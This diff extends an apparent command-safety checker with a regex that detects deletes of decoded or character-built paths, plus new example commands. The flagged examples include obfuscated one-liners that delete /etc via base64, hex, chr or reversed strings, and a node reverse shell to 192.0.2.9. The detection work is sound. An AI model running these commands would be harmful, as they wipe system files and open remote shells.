@@ -64,6 +64,9 @@ export const CODE_REWRITES: [RegExp, string][] = [
   [/new\s+File\s*\(\s*('[^']*'|"[^"]*")\s*\)/g, "Path($1)"],
   // adjacent literals are one string (awk, Python, Ruby, C): `"rm -f " "/etc/x"`
   [/"([^"\\]*)"[ \t]+"([^"\\]*)"/g, '"$1$2"'],
+  // Perl's quote operators: `q{/etc/*}`, and `q(…)` where a path goes
+  [/\bqq?\{([^{}'"\\]*)\}/g, '"$1"'],
+  [/(?<=\b(?:glob|unlink|rmtree|remove_tree|rmdir|chmod|chown|open)\s*\(?\s*)qq?\(([^()'"\\]*)\)/g, '"$1"'],
 ];
 
 /**
@@ -266,6 +269,10 @@ export interface CodeClass {
   check?: "exfiltrates" | "allocatesGigabytes";
 }
 const COMPUTES = "the code computes what it calls or runs";
+/** A delete whose path is decoded or built from characters where it is deleted (`rmtree(b64decode(…).decode())`). */
+export const DECODED_DELETE = new RegExp(
+  String.raw`\b(?:${DELETE_CALL_NAMES})${NAME_END}\s*\(\s*[^;)]*?(?:\b(?:b64decode|b32decode|b16decode|a85decode|fromhex|unhexlify|decode_base64|atob|fromCharCode|unpack|pack)\b|\b(?:bytes|bytearray|chr)\s*\(|\bBuffer\.from\s*\(|\.reverse\b|\[::-1\])`,
+);
 export const CODE_CLASSES: CodeClass[] = [
   { key: "remote_code_exec", reason: "runs code it downloads", all: [EVALUATES, DOWNLOADS] },
   { key: "remote_access", reason: "connects a shell to a socket", all: [SOCKETS, SHELL_ON_SOCKET] },
@@ -273,6 +280,11 @@ export const CODE_CLASSES: CodeClass[] = [
   { key: "inline_code_unanalysable", reason: COMPUTES, all: [COMPUTED_MEMBER] },
   { key: "inline_code_unanalysable", reason: COMPUTES, all: [NAMED_DANGEROUS_MEMBER] },
   { key: "inline_code_unanalysable", reason: COMPUTES, all: [EVALUATES_COMPUTED] },
+  {
+    key: "inline_code_unanalysable",
+    reason: "deletes a path it decodes or builds from characters",
+    all: [DECODED_DELETE],
+  },
   ...STORE_WIPES.map(([re, key]): CodeClass => ({ key, reason: "empties a whole store", all: [re] })),
   ...STATE_CALLS.map(([re, key]): CodeClass => ({ key, reason: "changes the machine's state", all: [re] })),
   { key: "resource_exhaustion", reason: "allocates gigabytes of memory", all: [], check: "allocatesGigabytes" },
@@ -356,6 +368,18 @@ export const INLINE_EXAMPLES = {
     "python3 -c \"import os; [os.unlink(os.path.join('/var/tmp', n)) for n in os.listdir('/var/tmp')]\"",
     "erl -noshell -eval 'mnesia:delete_table(sessions), halt().'",
     "node -e \"const m=require('net'),c=require('child_process');const k=m.connect(9001,'192.0.2.9',()=>{const p=c.spawn('/bin/bash',['-i']);k.pipe(p.stdin);p.stdout.pipe(k)})\"",
+    // a path decoded or built from characters where it is deleted
+    "python3 -c \"import shutil,base64; shutil.rmtree(base64.b64decode('L2V0Yw==').decode())\"",
+    "python3 -c \"import shutil; shutil.rmtree(chr(47)+'etc')\"",
+    'python3 -c "import os; os.remove(bytes([47,101,116,99]).decode())"',
+    "python3 -c \"import shutil; shutil.rmtree(bytes.fromhex('2f657463').decode())\"",
+    "node -e \"require('fs').rmSync(Buffer.from('L2V0Yw==','base64').toString(),{recursive:true})\"",
+    "node -e \"require('fs').rmSync(atob('L2V0Yw=='),{recursive:true})\"",
+    "ruby -rfileutils -e 'FileUtils.rm_rf(\"cte/\".reverse)'",
+    // Perl's q{} and q() quotes
+    "perl -e 'unlink glob q{/etc/*}'",
+    "perl -e 'unlink(glob(q(/etc/cron.d/*)))'",
+    "perl -MFile::Path=rmtree -e 'rmtree(q{/etc})'",
   ],
   pass: [
     "python3 -c \"import shutil; shutil.rmtree('build')\"",
@@ -378,6 +402,10 @@ export const INLINE_EXAMPLES = {
     "php artisan tinker --execute='App\\Models\\Invoice::find(1)->delete();'",
     "node -e \"console.log('DELETE FROM users;'.length)\"",
     "python3 -c \"print('TRUNCATE is a SQL verb')\"",
+    "python3 -c \"import base64; print(base64.b64decode('aGk=').decode())\"",
+    'python3 -c "l=[1,2]; l.remove(chr(1) and 1); print(l)"',
+    "perl -e 'print q{rm -rf /etc}, qq{\\n}'",
+    "perl -e 'unlink glob q{build/*.o}'",
     "perl -e 'chmod 0755, \"bin/run\"'",
     "tclsh <<< 'file delete -force build'",
     "perl -MFile::Path=rmtree -e 'rmtree shift' build",
